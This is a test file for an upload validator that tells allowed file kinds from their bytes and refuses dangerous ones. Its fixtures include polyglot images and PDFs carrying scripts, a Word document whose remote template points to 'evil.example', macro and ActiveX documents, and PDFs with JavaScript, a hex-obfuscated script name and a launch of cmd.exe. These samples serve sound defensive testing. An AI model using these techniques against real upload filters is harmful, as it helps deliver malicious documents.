import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { docxParagraph, makeDocx } from '../testing/make-docx.ts';
import { makePdf } from '../testing/make-pdf.ts';
import { makeZip } from '../testing/make-zip.ts';
import { fileKind } from './file-kind.ts';

const bytes = (...parts: (string | Uint8Array)[]): Uint8Array =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))));
const png = bytes(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
);
const gif = bytes(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
const jpg = bytes(
  '\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00',
  '\xff\xdb\x00\x03\x01',
  '\xff\xd9',
);
const docx = makeDocx(docxParagraph('正文'));
const pdf = makePdf(['hello']);
const compound = (...names: string[]): Uint8Array =>
  bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', new Uint8Array(600), ...names.map((name) => Buffer.from(name, 'utf16le')));
const relationships = (body: string): Record<string, string> => ({
  'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`,
});

const answer = async (content: Uint8Array, name: string): Promise<string> => {
  const kind = await fileKind(content, name);
  return kind.ok ? `${kind.ext} ${kind.type}` : kind.refused;
};

describe('[CNT-03] given a file that may be uploaded', () => {
  test.each<[string, Uint8Array, string]>([
    ['图.PNG', png, 'png image/png'],
    ['a.gif', gif, 'gif image/gif'],
    ['a.jpeg', jpg, 'jpg image/jpeg'],
    ['a.pdf', pdf, 'pdf application/pdf'],
    ['a.docx', docx, 'docx application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['a.ofd', makeZip({ 'OFD.xml': '<ofd/>', 'Doc_0/Document.xml': '<d/>' }), 'ofd application/ofd'],
    ['a.doc', compound('WordDocument'), 'doc application/msword'],
    ['a.wps', compound('WordDocument'), 'wps application/vnd.ms-works'],
    ['a.txt', Buffer.from('各区县人民政府'), 'txt text/plain'],
    ['a.csv', bytes('\xd0\xd5\xc3\xfb,1\r\n'), 'csv text/csv'],
  ])('when it is %s, then its kind is told from its bytes', async (name, content, expected) => {
    expect(await answer(content, name)).toBe(expected);
  });
});

describe('[SEC-03] given a file that must not be taken', () => {
  test.each<[string, string, Uint8Array, string]>([
    ['a picture with a zip archive behind it', 'a.png', bytes(png, makeZip({ 'a.txt': 'x' })), 'polyglot'],
    ['a PDF with a zip archive behind it', 'a.pdf', bytes(pdf, makeZip({ 'a.txt': 'x' })), 'polyglot'],
    ['a PDF with a page behind it', 'a.pdf', bytes(pdf, '<html><script>1</script>'), 'polyglot'],
    ['a picture with a script behind it', 'a.gif', bytes(gif, '/*<script>alert(1)</script>*/'), 'polyglot'],
    [
      'a picture with a script inside',
      'a.jpg',
      bytes(jpg.slice(0, 20), '\xff\xfe\x00\x20<script>alert(1)</script>', jpg.slice(20)),
      'polyglot',
    ],
    ['a picture that is a script', 'a.gif', bytes('GIF89a/*', gif.slice(8)), 'polyglot'],
    ['a document with bytes behind it', 'a.docx', bytes(docx, 'x'), 'polyglot'],
    ['a page named as text', 'a.txt', bytes('<!DOCTYPE html><html>'), 'polyglot'],
    ['a program', 'a.exe', bytes('MZ', new Uint8Array(100)), 'kind-not-allowed'],
    ['a program named as a document', 'a.docx', bytes('MZ', new Uint8Array(100)), 'kind-not-allowed'],
    ['an SVG', 'a.svg', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'kind-not-allowed'],
    [
      'an SVG named as a picture',
      'a.png',
      bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
      'kind-not-allowed',
    ],
    ['a page', 'a.html', bytes('<html>'), 'kind-not-allowed'],
    ['a plain archive', 'a.zip', makeZip({ 'a.txt': 'x' }), 'kind-not-allowed'],
    ['a plain archive named as a document', 'a.docx', makeZip({ 'a.txt': 'x' }), 'kind-not-allowed'],
    ['a picture named as another', 'a.png', jpg, 'name-mismatch'],
    ['a document named as another', 'a.xlsx', docx, 'name-mismatch'],
    ['no extension', 'passwd', png, 'kind-not-allowed'],
    ['nothing', 'a.txt', new Uint8Array(), 'malformed'],
    ['a cut picture', 'a.png', png.slice(0, 40), 'malformed'],
    ['a document with macros', 'a.docx', makeDocx('', { 'word/vbaProject.bin': 'x' }), 'macro'],
    [
      'a document that loads a template',
      'a.docx',
      makeDocx(
        '',
        relationships(
          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        ),
      ),
      'active-content',
    ],
    ['a document with a control', 'a.docx', makeDocx('', { 'word/activeX/activeX1.xml': '<x/>' }), 'active-content'],
    [
      'a document with an embedded program',
      'a.docx',
      makeDocx('', { 'word/embeddings/oleObject1.bin': 'x' }),
      'active-content',
    ],
    ['an old document with macros', 'a.doc', compound('WordDocument', '_VBA_PROJECT'), 'macro'],
    ['a locked document', 'a.doc', compound('EncryptedPackage'), 'encrypted'],
    [
      'a PDF with a script',
      'a.pdf',
      makePdf(['x'], ['<< /S /JavaScript /JS (app.alert(1)) >>'], '/OpenAction 6 0 R'),
      'active-content',
    ],
    ['a PDF with a disguised script', 'a.pdf', makePdf(['x'], ['<< /S /J#61vaScr#69pt /JS (1) >>']), 'active-content'],
    ['a PDF that starts a program', 'a.pdf', makePdf(['x'], ['<< /S /Launch /F (cmd.exe) >>']), 'active-content'],
    ['a PDF with a file inside', 'a.pdf', makePdf(['x'], ['<< /Type /EmbeddedFile /Length 0 >>']), 'active-content'],
    ['a locked PDF', 'a.pdf', makePdf(['x'], [], '/Encrypt 6 0 R'), 'encrypted'],
  ])('when it is %s, then it is refused', async (_, name, content, expected) => {
    expect(await answer(content, name)).toBe(expected);
  });

  test('when a PDF hides its script in a packed object stream, then it is found there', async () => {
    const packed = deflateSync(Buffer.from('6 0 << /S /JavaScript /JS (app.alert(1)) >>')).toString('latin1');
    const stream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
    expect(await answer(makePdf(['x'], [stream]), 'a.pdf')).toBe('active-content');
  });

  test('when it is refused, then a person is told in both languages', async () => {
    const kind = await fileKind(png, 'a.svg');
    expect(kind.ok || [kind.message.zh.length > 10, kind.message.en.length > 10]).toEqual([true, true]);
  });
});
